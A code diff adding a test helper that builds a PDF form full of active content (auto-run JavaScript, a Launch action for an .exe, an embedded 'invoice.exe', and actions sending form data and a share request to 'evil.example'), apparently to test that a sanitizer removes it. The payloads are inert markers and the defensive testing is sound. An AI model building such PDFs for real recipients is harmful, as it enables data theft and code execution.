@@ -1,4 +1,12 @@
-import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
+import {
+  decodePDFRawStream,
+  PDFDocument,
+  PDFHexString,
+  PDFName,
+  PDFRawStream,
+  PDFStream,
+  PDFString,
+} from '@cantoo/pdf-lib';
 
 const appointmentTexts = [
   'Appraisal District Name',
@@ -91,4 +99,56 @@ export async function encryptedBlank(): Promise<Buffer> {
   const document = await PDFDocument.load(await blank('Protected', ['Name']));
   await document.encrypt({ userPassword: 'secret', ownerPassword: 'secret' });
   return Buffer.from(await document.save({ useObjectStreams: false }));
+}
+
+/** The blank of a form that acts by itself in every place where a PDF can, each with a text of its own. */
+export async function activeBlank(): Promise<Buffer> {
+  const document = await PDFDocument.load(await blank('Official blank 50-162', ['Name']));
+  const { context, catalog } = document;
+  const script = (text: string) => context.obj({ S: 'JavaScript', JS: PDFString.of(text) });
+  const page = document.getPage(0).node;
+  document.addJavaScript('calc', 'act-named');
+  const inStream = context.register(context.flateStream('app.alert("act-stream")'));
+  catalog.set(PDFName.of('OpenAction'), context.register(script('app.alert("act-open")')));
+  catalog.set(
+    PDFName.of('AA'),
+    context.obj({ WP: script('app.alert("act-print")'), DP: { S: 'JavaScript', JS: inStream } }),
+  );
+  page.set(PDFName.of('AA'), context.obj({ O: { S: 'Launch', F: PDFString.of('act-cmd.exe') } }));
+  const field = document.getForm().getTextField('Name').acroField;
+  field.dict.set(PDFName.of('AA'), context.obj({ K: context.register(script('app.alert("act-typed")')) }));
+  await document.attach(Buffer.from('act-program'), 'invoice.exe');
+  const link = (action: object) => {
+    const mark = {
+      Type: 'Annot',
+      Subtype: 'Link',
+      Rect: [0, 0, 9, 9],
+      A: context.register(context.obj(action as never)),
+    };
+    page.addAnnot(context.register(context.obj(mark as never)));
+  };
+  link({
+    S: 'URI',
+    URI: PDFString.of('https://comptroller.texas.gov'),
+    Next: script('app.alert("act-next")'),
+  });
+  link({ S: 'URI', URI: PDFHexString.fromText('javascript:act') });
+  link({ S: 'SubmitForm', F: PDFString.of('https://evil.example/take') });
+  link({ S: 'GoToR', F: PDFString.of('//evil.example/share.pdf') });
+  return Buffer.from(await document.save());
+}
+
+/** All objects of a PDF, whether or not something refers to them: as text without streams, and what is in the streams. */
+export async function objectsOf(pdf: Uint8Array): Promise<{ structure: string; contents: string }> {
+  const { context } = await PDFDocument.load(pdf);
+  const objects = context.enumerateIndirectObjects().map(([, object]) => object);
+  const contents = objects.filter((object) => object instanceof PDFRawStream);
+  return {
+    structure: objects
+      .map((object) => (object instanceof PDFStream ? object.dict : object).toString())
+      .join('\n'),
+    contents: contents
+      .map((object) => Buffer.from(decodePDFRawStream(object).decode()).toString('latin1'))
+      .join('\n'),
+  };
 }
